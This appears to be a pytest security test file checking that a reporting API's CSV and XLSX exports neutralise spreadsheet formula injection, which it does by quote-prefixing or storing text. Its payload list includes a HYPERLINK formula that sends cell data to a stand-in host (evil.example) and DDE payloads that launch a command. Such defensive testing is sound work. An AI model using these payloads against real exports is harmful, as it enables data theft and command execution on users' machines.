"""Attack class: formula (CSV) injection through exported reports — text a spreadsheet would run
as a formula or DDE command (leading ``= + - @``, tab, CR, LF, full-width ``＝ ＋ － ＠``) stored in
a record and exported as CSV and XLSX, plus the export's file name.

CSV: such a cell is written with a leading ``'``; XLSX: the text is a string cell (never a
``<f>`` formula) in a quote-prefixed style, value unchanged; numbers stay numbers. Payloads: 12
formula texts x 2 formats = 24, 2 harmless controls, 1 file name: 27 cases.
"""
from __future__ import annotations

import csv
import io
import re
import zipfile
from typing import Any

import pytest

from tests.security.conftest import MODELER

FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
]
CONTROLS = ["plain text", "1+1="]
FORM = {"kind": "form", "key": "contact", "title": "Contact",
        "schema": {"type": "object", "properties": {"name": {"type": "string"}}}}
REPORT = {"kind": "report", "key": "contacts_by_name", "title": "Contacts by name", "source": {"form": "contact"},
          "dimensions": [{"name": "name", "field": "name"}], "measures": [{"name": "contacts", "agg": "count"}],
          "sort": [{"by": "name", "order": "asc"}], "limit": 1000}


@pytest.fixture(scope="module")
def exported(plain_client: Any) -> dict[str, Any]:
    for document in (FORM, REPORT):
        assert plain_client.post("/api/v1/definitions", headers=MODELER, json=document).status_code in (200, 201)
    for text in FORMULAS + CONTROLS:
        assert plain_client.post("/api/v1/forms/contact/records", json={"name": text}).status_code == 201
    csv_response = plain_client.get("/api/v1/reports/contacts_by_name", params={"format": "csv"})
    xlsx_response = plain_client.get("/api/v1/reports/contacts_by_name", params={"format": "xlsx"})
    assert csv_response.status_code == xlsx_response.status_code == 200
    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"), newline="")))
    return {"csv": {row[0]: row[1] for row in rows[1:]}, "xlsx": xlsx_response.content,
            "disposition": (csv_response.headers["content-disposition"], xlsx_response.headers["content-disposition"])}


@pytest.mark.parametrize("text", FORMULAS, ids=[repr(text)[:24] for text in FORMULAS])
def test_csv_cells_that_would_run_are_quoted(exported: dict[str, Any], text: str) -> None:
    assert exported["csv"]["'" + text] == "1"
    assert text not in exported["csv"]


@pytest.mark.parametrize("text", CONTROLS)
def test_csv_cells_that_would_not_run_are_unchanged(exported: dict[str, Any], text: str) -> None:
    assert exported["csv"][text] == "1"


def _sheet(workbook: bytes) -> tuple[str, list[str], str]:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
        strings = archive.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in archive.namelist() else ""
        styles = archive.read("xl/styles.xml").decode("utf-8")
    texts = [_unescape(value) for value in re.findall(r"<t(?: [^>]*)?>(.*?)</t>", strings, flags=re.S)]
    return sheet, texts, styles


def _unescape(value: str) -> str:
    import html

    return html.unescape(re.sub(r"_x([0-9A-F]{4})_", lambda match: chr(int(match.group(1), 16)), value))


@pytest.mark.parametrize("text", FORMULAS, ids=[repr(text)[:24] for text in FORMULAS])
def test_xlsx_cells_that_would_run_are_quote_prefixed_text(exported: dict[str, Any], text: str) -> None:
    sheet, texts, styles = _sheet(exported["xlsx"])
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere in the sheet
    assert text.replace("\r\n", "\n") in [value.replace("\r\n", "\n") for value in texts]  # the value unchanged
    assert 'quotePrefix="1"' in styles
    index = texts.index(text) if text in texts else [value.replace("\r\n", "\n") for value in texts].index(text)
    cell = re.search(rf'<c r="A\d+"( s="(\d+)")? t="s"><v>{index}</v></c>', sheet)
    assert cell is not None and cell.group(2) is not None, "the cell has a (quote-prefix) style"


def test_the_file_name_is_the_report_key(exported: dict[str, Any]) -> None:
    assert exported["disposition"] == ('attachment; filename="contacts_by_name.csv"',
                                       'attachment; filename="contacts_by_name.xlsx"')
